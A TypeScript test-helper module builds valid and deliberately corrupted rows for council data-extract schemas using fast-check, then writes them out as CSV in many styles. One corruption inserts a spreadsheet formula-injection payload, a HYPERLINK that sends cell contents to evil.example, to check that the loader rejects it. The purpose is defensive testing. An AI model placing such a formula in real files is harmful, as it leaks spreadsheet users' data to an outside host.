/**
 * Rows built from the extract schemas, for the hostile corpus and the property tests: a
 * fast-check arbitrary of rows that satisfy every rule of a schema for a delivery month, the
 * corruptions that each break one named rule, and CSV text written the ways councils write it.
 */
import fc from 'fast-check';
import type { ColumnSpec, ExtractSchema } from '../../functions/core/extracts/index.js';
import { monthBounds } from '../../functions/core/load/index.js';

/** A row as delivered: header name -> cell text. */
export type TextRow = Record<string, string>;

const DAY_MS = 86_400_000;

/** `iso` (YYYY-MM-DD) moved by `days`. */
export function addDays(iso: string, days: number): string {
  return new Date(Date.parse(`${iso}T00:00:00Z`) + days * DAY_MS).toISOString().slice(0, 10);
}

/** `iso` moved by whole years; 29 February becomes 28 February in other years. */
export function addYears(iso: string, years: number): string {
  const [y, m, d] = iso.split('-').map(Number) as [number, number, number];
  const last = new Date(Date.UTC(y + years, m, 0)).getUTCDate();
  return `${y + years}-${String(m).padStart(2, '0')}-${String(Math.min(d, last)).padStart(2, '0')}`;
}

/** A date cell in either accepted style. */
export function dateText(iso: string, style: 'iso' | 'uk'): string {
  return style === 'iso' ? iso : `${iso.slice(8, 10)}/${iso.slice(5, 7)}/${iso.slice(0, 4)}`;
}

/** The ISO date a date or date-time cell holds, or undefined when it is blank. */
export function isoOf(text: string): string | undefined {
  const t = text.trim();
  if (t === '') return undefined;
  const uk = /^(\d{2})\/(\d{2})\/(\d{4})$/.exec(t);
  return uk ? `${uk[3]}-${uk[2]}-${uk[1]}` : t.slice(0, 10);
}

/** Characters a free-text cell may hold: CSV's own, formulas, accents, emoji, line breaks. */
const TEXT_UNIT = fc.constantFrom(
  'a',
  'K',
  '9',
  '-',
  '_',
  ' ',
  'é',
  '漢',
  '😀',
  '"',
  ',',
  "'",
  '=',
  '+',
  '@',
  '\n',
  '\r\n',
  ';',
  '|',
);
const TEXT_EDGE = fc.constantFrom('a', 'K', '9', '=', '+', '-', '@', '"', 'é', '😀', '_');

/** Free text without leading or trailing whitespace (the loader trims spaces). */
export const textArb: fc.Arbitrary<string> = fc
  .tuple(TEXT_EDGE, fc.string({ unit: TEXT_UNIT, maxLength: 10 }), TEXT_EDGE)
  .map(([a, middle, b]) => `${a}${middle}${b}`);

/** A code in any letter case (codes match case-insensitively). */
function codeArb(codes: readonly string[]): fc.Arbitrary<string> {
  return fc
    .tuple(fc.constantFrom(...codes), fc.constantFrom('as is', 'upper', 'lower'))
    .map(([code, casing]) =>
      casing === 'upper' ? code.toUpperCase() : casing === 'lower' ? code.toLowerCase() : code,
    );
}

function dateArb(from: string, to: string): fc.Arbitrary<string> {
  const days = Math.round((Date.parse(to) - Date.parse(from)) / DAY_MS);
  return fc
    .tuple(fc.integer({ min: 0, max: days }), fc.constantFrom<'iso' | 'uk'>('iso', 'uk'))
    .map(([d, style]) => dateText(addDays(from, d), style));
}

const BOOLEAN_TEXT = ['true', 'FALSE', 'yes', 'No', 'y', 'N', '1', '0', 'T', 'f'];

/** The dates a column may hold in `month` before the row rules relate columns to each other. */
function dateWindow(schema: ExtractSchema, column: ColumnSpec, month: string): [string, string] {
  const { start, end } = monthBounds(month);
  for (const rule of schema.rules) {
    if (rule.column !== column.name) continue;
    if (rule.kind === 'in_delivery_month') return [start, end];
    if (rule.kind === 'not_after_month_end') return [addYears(end, -20), end];
    if (rule.kind === 'age_at_month_end') {
      return [addDays(addYears(end, -(rule.max + 1)), 1), addYears(end, -rule.min)];
    }
  }
  return [addYears(start, -3), addYears(end, 1)];
}

function valueArb(schema: ExtractSchema, column: ColumnSpec, month: string): fc.Arbitrary<string> {
  switch (column.type) {
    case 'string':
      return textArb;
    case 'code':
      return codeArb(column.codes ?? []);
    case 'date': {
      const [from, to] = dateWindow(schema, column, month);
      return dateArb(from, to);
    }
    case 'datetime': {
      const [from, to] = dateWindow(schema, column, month);
      return fc
        .tuple(
          dateArb(from, to).map((text) => isoOf(text)!),
          fc.integer({ min: 0, max: 23 }),
          fc.constantFrom('T', ' '),
        )
        .map(([day, hour, sep]) => `${day}${sep}${String(hour).padStart(2, '0')}:15:00`);
    }
    case 'integer':
      return fc.integer({ min: column.min ?? -1000, max: 1000 }).map(String);
    case 'number':
      return fc
        .double({ min: -1e6, max: 1e6, noNaN: true, noDefaultInfinity: true })
        .map((n) => String(Math.round(n * 100) / 100));
    case 'boolean':
      return fc.constantFrom(...BOOLEAN_TEXT);
  }
}

/**
 * Adjusts a row so that its columns agree with the schema's row rules (order of dates, values
 * required together, values blank unless another has a given code).
 */
export function satisfyRules(schema: ExtractSchema, row: TextRow): TextRow {
  const out = { ...row };
  const has = (name: string) => (out[name] ?? '').trim() !== '';
  const monthRuled = (name: string) =>
    schema.rules.some(
      (r) =>
        r.column === name && (r.kind === 'in_delivery_month' || r.kind === 'not_after_month_end'),
    );
  const typeOf = (name: string) => schema.columns.find((c) => c.name === name)!.type;
  const asType = (name: string, iso: string) =>
    typeOf(name) === 'datetime' ? `${iso}T12:00:00` : iso;
  for (const rule of schema.rules) {
    if (rule.kind === 'not_before' && has(rule.column) && has(rule.other)) {
      const later = isoOf(out[rule.column]!)!;
      const earlier = isoOf(out[rule.other]!)!;
      if (later < earlier) {
        if (monthRuled(rule.column)) out[rule.other] = asType(rule.other, later);
        else out[rule.column] = asType(rule.column, earlier);
      }
    } else if (rule.kind === 'required_when' && has(rule.when) && !has(rule.column)) {
      const column = schema.columns.find((c) => c.name === rule.column)!;
      out[rule.column] = column.codes?.[0] ?? 'x';
    } else if (rule.kind === 'blank_unless') {
      const other = (out[rule.other] ?? '').trim().toUpperCase();
      if (!rule.values.some((v) => v.toUpperCase() === other)) out[rule.column] = '';
    }
  }
  return out;
}

/**
 * Rows that pass every rule of `schema` for a delivery in `month`. Keys are left to the caller
 * (see {@link withKeys}): uniqueness is a property of the file, not of a row.
 */
export function validRowArb(schema: ExtractSchema, month: string): fc.Arbitrary<TextRow> {
  const fields: Record<string, fc.Arbitrary<string>> = {};
  for (const column of schema.columns) {
    const value = valueArb(schema, column, month);
    fields[column.name] = column.required
      ? value
      : fc.oneof({ weight: 3, arbitrary: value }, { weight: 1, arbitrary: fc.constant('') });
  }
  return fc.record(fields).map((row) => satisfyRules(schema, row));
}

/** Gives each row a distinct natural key: `prefix` then its index. */
export function withKeys(schema: ExtractSchema, rows: readonly TextRow[], prefix: string) {
  return rows.map((row, i) => {
    const keyed = { ...row };
    for (const k of schema.key) keyed[k] = `${prefix}${k === schema.key[0] ? '' : `${k}-`}${i}`;
    return keyed;
  });
}

/** `n` valid keyed rows, the same for the same seed. */
export function sampleRows(
  schema: ExtractSchema,
  month: string,
  n: number,
  seed: number,
  keyPrefix = 'id-',
): TextRow[] {
  if (n === 0) return [];
  return withKeys(schema, fc.sample(validRowArb(schema, month), { seed, numRuns: n }), keyPrefix);
}

/** One corruption: what it does to a row and the rule the loader must name for it. */
export interface Corruption {
  readonly name: string;
  /** The column and a fragment of the rule text the rejects file must show. */
  readonly column: string;
  readonly rule: string;
  /** Breaks `row` (a copy); `earlier` are the rows before it in the file. */
  apply(row: TextRow, earlier: readonly TextRow[]): TextRow;
}

/**
 * Every corruption that applies to `schema` in `month`: each breaks exactly the rule it names
 * (it may break others too, but that one must be reported).
 */
export function corruptionsFor(schema: ExtractSchema, month: string): Corruption[] {
  const { start, end } = monthBounds(month);
  const list: Corruption[] = [];
  const set = (name: string, value: string) => (row: TextRow) => ({ ...row, [name]: value });
  for (const column of schema.columns) {
    const c = column.name;
    if (column.required) {
      list.push({
        name: `blank ${c}`,
        column: c,
        rule: 'required: value is blank',
        apply: set(c, '  '),
      });
    }
    if (column.type === 'code') {
      list.push({
        name: `unknown code in ${c}`,
        column: c,
        rule: 'code: not in the code list',
        apply: set(c, 'ZZ9'),
      });
      list.push({
        name: `formula as ${c}`,
        column: c,
        rule: 'code: not in the code list',
        apply: set(c, '=HYPERLINK("http://evil.example/?x="&A1,"open")'),
      });
    } else if (column.type === 'date') {
      for (const bad of ['31/02/2020', '2019-02-29', '2020-13-01', '00/01/2020', 'soon']) {
        list.push({
          name: `${bad} in ${c}`,
          column: c,
          rule: 'type: not a date',
          apply: set(c, bad),
        });
      }
    } else if (column.type === 'datetime') {
      for (const bad of ['yesterday', 'infinity', '2020-02-30T10:00:00']) {
        list.push({
          name: `${bad} in ${c}`,
          column: c,
          rule: 'type: not an ISO 8601',
          apply: set(c, bad),
        });
      }
    } else if (column.type === 'integer') {
      for (const bad of ['1.5', 'two', '1e3']) {
        list.push({
          name: `${bad} in ${c}`,
          column: c,
          rule: 'type: not a whole number',
          apply: set(c, bad),
        });
      }
    } else if (column.type === 'boolean') {
      list.push({
        name: `maybe in ${c}`,
        column: c,
        rule: 'type: not a boolean',
        apply: set(c, 'maybe'),
      });
    }
    if (column.min !== undefined) {
      list.push({
        name: `below min ${c}`,
        column: c,
        rule: 'range: below the minimum',
        apply: set(c, String(column.min - 1)),
      });
    }
  }
  for (const rule of schema.rules) {
    const c = rule.column;
    switch (rule.kind) {
      case 'in_delivery_month':
        list.push({
          name: `${c} next month`,
          column: c,
          rule: 'date: outside the delivery month',
          apply: set(c, addDays(end, 1)),
        });
        list.push({
          name: `${c} last month`,
          column: c,
          rule: 'date: outside the delivery month',
          apply: set(c, dateText(addDays(start, -1), 'uk')),
        });
        break;
      case 'not_after_month_end':
        list.push({
          name: `${c} after month end`,
          column: c,
          rule: 'date: after the end of the delivery month',
          apply: set(c, addDays(end, 1)),
        });
        break;
      case 'not_before': {
        const other = rule.other;
        const ruled = schema.rules.some((r) => r.column === c && r.kind !== 'not_before');
        const datetime = schema.columns.find((x) => x.name === c)!.type === 'datetime';
        list.push({
          name: `${c} before ${other}`,
          column: c,
          rule: `order: before ${other}`,
          apply: (row) => {
            const at = isoOf(row[other]!) ?? start;
            if (ruled) {
              const mine = isoOf(row[c]!) ?? start;
              return { ...row, [c]: mine, [other]: addDays(mine, 1) };
            }
            const before = addDays(at, -1);
            return { ...row, [other]: at, [c]: datetime ? `${before}T09:00:00` : before };
          },
        });
        break;
      }
      case 'required_when': {
        const when = rule.when;
        list.push({
          name: `${when} without ${c}`,
          column: c,
          rule: `required: must be present when ${when}`,
          apply: (row) => {
            const approved = schema.columns.find((x) => x.type === 'date' && x.required);
            const day = approved ? (isoOf(row[approved.name]!) ?? start) : start;
            return { ...row, [when]: day, [c]: '' };
          },
        });
        break;
      }
      case 'blank_unless': {
        const column = schema.columns.find((x) => x.name === c)!;
        const outside = schema.columns
          .find((x) => x.name === rule.other)!
          .codes!.find((code) => !rule.values.includes(code))!;
        list.push({
          name: `${c} while ${rule.other} is ${outside}`,
          column: c,
          rule: `consistency: must be blank unless ${rule.other}`,
          apply: (row) => ({ ...row, [rule.other]: outside, [c]: column.codes![0]! }),
        });
        break;
      }
      case 'age_at_month_end':
        list.push({
          name: `${c} too old`,
          column: c,
          rule: 'range: age at month end outside',
          apply: set(c, addYears(end, -(rule.max + 2))),
        });
        list.push({
          name: `${c} too young`,
          column: c,
          rule: 'range: age at month end outside',
          apply: set(c, addYears(end, -(rule.min - 1))),
        });
        break;
    }
  }
  const key = schema.key.join('+');
  list.push({
    name: 'duplicate key',
    column: key,
    rule: 'key: duplicate of an earlier row in this file',
    apply: (row, earlier) => {
      // The first row's key: callers leave that row intact, so its key is certainly there.
      const source = earlier[0];
      if (!source) return row;
      const copy = { ...row };
      for (const k of schema.key) copy[k] = source[k]!;
      return copy;
    },
  });
  return list;
}

/** How a file is written: the choices spreadsheets and exports actually make. */
export interface CsvStyle {
  /** Header names in file order (schema names, aliases, other spellings, unknown columns). */
  readonly header: readonly string[];
  /** For each header name, the row field it shows (undefined: an unknown column's filler). */
  readonly fieldOf?: Readonly<Record<string, string | undefined>>;
  readonly eol?: '\n' | '\r\n' | '\r';
  readonly bom?: boolean;
  /** Whether the last record ends with a line break (default true). */
  readonly finalEol?: boolean;
  /** Quote every field, not just the ones that need it. */
  readonly quoteAll?: boolean;
  /** Spaces around values (outside quotes), which the loader trims. */
  readonly pad?: boolean;
}

/** One field as RFC 4180 writes it. */
export function csvField(value: string, quote = false): string {
  return quote || /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

/** A record's text, without its line break. */
export function csvRecord(values: readonly string[], style: CsvStyle = { header: [] }): string {
  return values
    .map((v) => {
      const field = csvField(v, style.quoteAll);
      return style.pad && v !== '' ? ` ${field}  ` : field;
    })
    .join(',');
}

/** The file's text: header and rows in `style`. Unknown columns get `filler(row index)`. */
export function writeCsv(
  rows: readonly TextRow[],
  style: CsvStyle,
  filler: (i: number) => string = () => '',
): string {
  const eol = style.eol ?? '\n';
  const lines = [
    csvRecord(style.header, { ...style, pad: false }),
    ...rows.map((row, i) =>
      csvRecord(
        style.header.map((name) => {
          const field = style.fieldOf ? style.fieldOf[name] : name;
          return field === undefined ? filler(i) : (row[field] ?? '');
        }),
        style,
      ),
    ),
  ];
  return `${style.bom ? '\uFEFF' : ''}${lines.join(eol)}${style.finalEol === false ? '' : eol}`;
}

/** The schema's own header, in schema order. */
export function schemaHeader(schema: ExtractSchema): string[] {
  return schema.columns.map((c) => c.name);
}
